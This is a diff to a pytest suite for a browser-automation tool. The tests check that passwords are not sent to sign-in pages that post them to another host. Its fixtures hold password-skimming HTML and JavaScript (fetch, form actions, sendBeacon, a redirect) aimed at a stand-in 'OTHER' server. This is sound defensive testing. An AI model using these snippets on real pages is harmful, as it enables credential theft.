@@ -9,11 +9,13 @@ from collections.abc import Iterator, Mapping, Sequence
 from pathlib import Path
 from typing import Any
 
+import msgspec
 import pytest
+from hostile_product import Handler, hostile, says
 from other_site import PACKET, PDF, OtherSite, Reply, serving, target_of, worked
 from playwright.sync_api import Browser, Page, sync_playwright
 
-from golive.config.target import StatusWords
+from golive.config.target import StatusWords, Target
 from golive.errors import StepFailed, Unexpected, Unreachable
 from golive.facts import Journey, StepSeen
 from golive.model.artefact import ReviewPack
@@ -432,6 +434,11 @@ def test_an_export_that_fails_is_told(chromium: Browser) -> None:
 # ---------------------------------------------------------------------- nobody there
 
 
+def naming(target: Target, address: str) -> Target:
+    """The target whose file says that users are signed in at this address."""
+    return msgspec.structs.replace(target, app=msgspec.structs.replace(target.app, sign_in_origins=(address,)))
+
+
 def test_nothing_is_typed_on_a_page_of_somebody_else(chromium: Browser) -> None:
     """A sign-in page that leads to another port is no page to type a password on, however like the own one it looks."""
     form = '<label>Password<input type=password oninput="fetch(&quot;/took?&quot; + this.value)"></label>'
@@ -443,9 +450,86 @@ def test_nothing_is_typed_on_a_page_of_somebody_else(chromium: Browser) -> None:
             with pytest.raises(StepFailed, match="sent to another host, port or scheme, and nothing was typed there"):
                 worked(chromium, site.target(sign_in=fill))
             worked(chromium, site.target(sign_in=own))
+            asked_before = [*other.asked]
+            worked(chromium, naming(site.target(sign_in=fill), other.address))
 
     assert "GET /took" in site.asked
-    assert "GET /took" not in other.asked
+    assert "GET /took" not in asked_before
+    assert "GET /took" in other.asked
+
+
+FIELD = "<label>Password<input id=p type=password name=p></label><button>Sign in</button>"
+SCRIPT = FIELD + "<script>document.querySelector('button').onclick = () => { %s };</script>"
+SENDS = {
+    "form": f"<form method=post action=OTHER/took>{FIELD}</form>",
+    "address": f"<form action=OTHER/took>{FIELD}</form>",
+    "window": f"<form method=post action=OTHER/took target=_blank>{FIELD}</form>",
+    "redirect": f"<form method=post action=/on>{FIELD}</form>",
+    "script": SCRIPT % "fetch('OTHER/took', {method: 'POST', body: JSON.stringify({p: p.value})})"
+    ".then(sent => sent.text()).then(text => document.body.append(text))",
+    "packed": SCRIPT % "navigator.sendBeacon('OTHER/took', btoa(p.value))",
+}
+SIGN_IN = [
+    {"do": "go", "path": "/auth/signin"},
+    {"do": "fill", "label": "Password", "value": "{password}"},
+    {"do": "click", "role": "button", "name": "Sign in"},
+    {"do": "wait_text", "text": "taken", "seconds": 3.0},
+]
+
+
+@pytest.mark.parametrize("page", SENDS.values(), ids=SENDS)
+def test_the_password_is_sent_nowhere_else(chromium: Browser, page: str) -> None:
+    """However the target's own sign-in page would send it to another address, it is held, and nobody can tell more."""
+    with serving({}) as other:
+        on = Reply("", 307, {"Location": f"{other.address}/took"})
+        with serving({"GET /auth/signin": page.replace("OTHER", other.address), "POST /on": on}) as site:
+            where = (
+                rf"would have sent the password to {other.address}, so it was not sent\. .* sign_in_origins in \[app\]"
+            )
+            with pytest.raises(Unexpected, match=where):
+                worked(chromium, site.target(sign_in=SIGN_IN))
+
+    assert not any(one.endswith("/took") for one in other.asked)
+
+
+@pytest.mark.parametrize("sends", ["form", "redirect", "script"])
+def test_the_password_is_sent_where_users_are_signed_in(chromium: Browser, sends: str) -> None:
+    """An address that the target file names takes it as the target's own do."""
+    with serving({"POST /took": Reply("taken", headers={"Access-Control-Allow-Origin": "*"})}) as other:
+        on = Reply("", 307, {"Location": f"{other.address}/took"})
+        with serving({"GET /auth/signin": SENDS[sends].replace("OTHER", other.address), "POST /on": on}) as site:
+            worked(chromium, naming(site.target(sign_in=SIGN_IN), other.address)).clean()
+
+    assert "POST /took" in other.asked
+
+
+def test_others_are_asked_while_somebody_signs_in(chromium: Browser) -> None:
+    """Scripts and figures of others come and go beside a sign-in, and a file goes where the product says."""
+    page = (
+        SCRIPT % "fetch('/in', {method: 'POST', body: p.value})"
+        + """<script src=OTHER/script.js></script>
+    <input type=file id=f><p id=said></p><script>
+    fetch('OTHER/figures', {method: 'POST', body: 'a page was seen'});
+    f.onchange = async () => {
+      const sent = await fetch('OTHER/store?signature=x', {method: 'PUT', body: f.files[0]});
+      said.textContent = await sent.text();
+    };</script>"""
+    )
+    lets = {"Access-Control-Allow-Origin": "*", "Access-Control-Allow-Methods": "PUT"}
+    lets["Access-Control-Allow-Headers"] = "content-type"
+    script = Reply("document.body.append('ready')", headers={"Content-Type": "text/javascript"})
+    asked = ("POST /figures", "OPTIONS /store", "PUT /store")
+    upload = [{"do": "upload", "css": "#f"}, {"do": "wait_text", "text": "stored", "seconds": 10.0}]
+    with serving({"GET /script.js": script, **{one: Reply("stored", headers=lets) for one in asked}}) as other:
+        own = page.replace("OTHER", other.address)
+        with serving({"GET /auth/signin": own, "POST /in": ""}) as site:
+            ready = {"do": "wait_text", "text": "ready", "seconds": 10.0}
+            workflow = worked(chromium, site.target(sign_in=[*SIGN_IN[:3], ready], upload=upload))
+            workflow.upload(PACKET)
+            workflow.clean()
+
+    assert set(other.asked) >= {"GET /script.js", *asked}
+    assert "POST /in" in site.asked
 
 
 def test_an_export_has_a_bound(chromium: Browser, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -516,6 +600,41 @@ def test_an_unsure_step_is_no_stop() -> None:
     for unsure, verdict in ((False, Verdict.FAIL), (True, Verdict.INCONCLUSIVE)):
         step = StepSeen(step="sign-in", problem="It is so.", unsure=unsure)
         assert prove_step("workflow-sign-in", Journey(steps=(step,))).verdict is verdict
+
+
+SYNCHRONOUS = """<h1>Case</h1><button>Save</button><script>
+onload = () => setTimeout(() => { const x = new XMLHttpRequest(); x.open('GET', '/held', false); x.send(); }, 300);
+</script>"""
+
+
+@pytest.mark.parametrize(
+    ("page", "action", "said"),
+    [
+        (SYNCHRONOUS, {"do": "wait_text", "text": "never", "seconds": 1.0}, 'did not show "never"'),
+        (SYNCHRONOUS, {"do": "wait_status", "css": "h1", "seconds": 1.0}, "showed no word"),
+        ("<a href=/held download=a.pdf>Save</a>", {"do": "download", "text": "Save", "seconds": 1.0}, "No file came"),
+    ],
+    ids=["text", "status", "download"],
+)
+def test_a_step_ends_in_its_own_time(chromium: Browser, page: str, action: dict[str, Any], said: str) -> None:
+    """A page whose script is held up, and a file that does not end, hold a step up no longer than it may last."""
+    let_go: list[bool] = []
+
+    def held(one: Handler) -> None:
+        one.begin("application/octet-stream", Content_Length=str(2**20))
+        one.wfile.write(bytes(2**16))
+        let_go.append(one.hostile.over.wait(20))
+
+    with hostile(
+        {"/": says(b"", kind="text/html"), "/case": says(page.encode(), kind="text/html"), "/held": held}
+    ) as site:
+        workflow = worked(chromium, target_of(site.url, upload=[CASE, action]))
+        with pytest.raises((StepFailed, Unexpected), match=said):
+            workflow.upload(PACKET)
+        workflow.clean()
+        ended_first = not let_go
+
+    assert ended_first
 
 
 def test_nobody_is_reached_in_mid_step(chromium: Browser) -> None:
